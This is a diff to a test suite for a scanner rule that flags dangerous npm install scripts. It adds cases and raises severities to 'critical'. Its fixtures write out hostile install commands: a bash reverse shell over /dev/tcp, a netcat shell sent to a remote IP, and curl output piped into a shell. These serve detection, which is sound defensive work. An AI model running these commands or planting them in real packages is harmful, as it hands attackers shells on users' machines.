@@ -43,7 +43,29 @@ packageRuleTester(installScript, {
           scripts: { preinstall: 'bash -c "bash -i >& /dev/tcp/192.0.2.1/2333 0>&1"' },
         }),
       },
-      hits: [{ line: 5, field: 'scripts.preinstall', severity: 'high', message: '/dev/tcp' }],
+      hits: [{ line: 5, field: 'scripts.preinstall', severity: 'critical', message: 'reverse shell' }],
+    },
+    {
+      name: 'netcat handing a shell to a remote host',
+      files: {
+        'package.json': manifest({
+          name: 'a-mcp',
+          version: '1.0.0',
+          scripts: { postinstall: 'nc 203.0.113.9 4444 -e /bin/sh' },
+        }),
+      },
+      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'critical', message: 'netcat' }],
+    },
+    {
+      name: 'a download piped into a shell',
+      files: {
+        'package.json': manifest({
+          name: 'a-mcp',
+          version: '1.0.0',
+          scripts: { install: 'curl -fsSL https://get.example.invalid/setup.sh | bash' },
+        }),
+      },
+      hits: [{ line: 5, field: 'scripts.install', severity: 'critical', message: 'downloads code' }],
     },
     {
       name: 'wget from an IP address',
@@ -136,7 +158,7 @@ packageRuleTester(installScript, {
         }),
         'install.sh': '#!/bin/sh\nset -e\ncurl -s https://example.invalid/i | sh\n',
       },
-      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'high', message: 'install.sh' }],
+      hits: [{ line: 5, field: 'scripts.postinstall', severity: 'critical', message: 'install.sh' }],
     },
     {
       name: 'node-gyp rebuild is info',
@@ -255,7 +277,7 @@ packageRuleTester(installScript, {
       },
       hits: [
         { line: 6, field: 'scripts.preinstall', severity: 'info' },
-        { line: 7, field: 'scripts.postinstall', severity: 'high' },
+        { line: 7, field: 'scripts.postinstall', severity: 'critical' },
       ],
     },
   ],
